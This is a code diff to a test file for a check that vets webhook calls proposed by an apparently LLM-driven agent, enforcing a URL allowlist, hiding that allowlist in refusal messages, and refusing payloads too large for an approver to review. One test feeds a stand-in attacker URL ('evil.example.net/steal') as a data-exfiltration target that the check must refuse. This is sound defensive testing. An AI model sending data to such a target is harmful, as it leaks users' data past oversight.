@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { proposalDigest } from '../approval/digest.js';
+import { NOT_ON_ALLOWLIST } from '../tools/call-webhook.js';
 import { TOOLS } from '../tools/index.js';
 import { checkProposal, functionTools } from './llm.js';
 
@@ -105,7 +106,7 @@ describe('checkProposal', () => {
     expect(check.error).toContain('risk');
   });
 
-  it('refuses a webhook URL that is not on the allowlist, showing the allowlist', () => {
+  it('refuses a webhook URL that is not on the allowlist without revealing the allowlist', () => {
     const check = checkProposal(
       call('call_webhook', {
         arguments: { url: 'https://evil.example.net/steal', payload: { a: 1 } },
@@ -117,12 +118,11 @@ describe('checkProposal', () => {
     );
     expect(check.ok).toBe(false);
     if (check.ok) return;
-    expect(check.error).toContain('https://evil.example.net/steal');
-    expect(check.error).toContain('not on the webhook allowlist');
-    expect(check.error).toContain('https://hooks.example.com/countersign/');
+    expect(check.error).toBe(NOT_ON_ALLOWLIST);
+    expect(check.error).not.toContain('hooks.example.com');
   });
 
-  it('says the allowlist is empty when no webhook is allowed', () => {
+  it('refuses every webhook when none is allowed, in the same words', () => {
     const check = checkProposal(
       call('call_webhook', {
         arguments: { url: 'https://hooks.example.com/countersign/deploy', payload: {} },
@@ -134,7 +134,25 @@ describe('checkProposal', () => {
     );
     expect(check.ok).toBe(false);
     if (check.ok) return;
-    expect(check.error).toContain('(empty)');
+    expect(check.error).toBe(NOT_ON_ALLOWLIST);
+  });
+
+  it('refuses a call too large to show an approver whole, before anyone is asked', () => {
+    const check = checkProposal(
+      call('call_webhook', {
+        arguments: {
+          url: 'https://hooks.example.com/countersign/deploy',
+          payload: { blob: 'z'.repeat(300_000) },
+        },
+        reasoning: 'x',
+        risk: 'high',
+      }),
+      TOOLS,
+      context,
+    );
+    expect(check.ok).toBe(false);
+    if (check.ok) return;
+    expect(check.error).toMatch(/too large to show to an approver whole/);
   });
 
   it('accepts a webhook URL on the allowlist', () => {
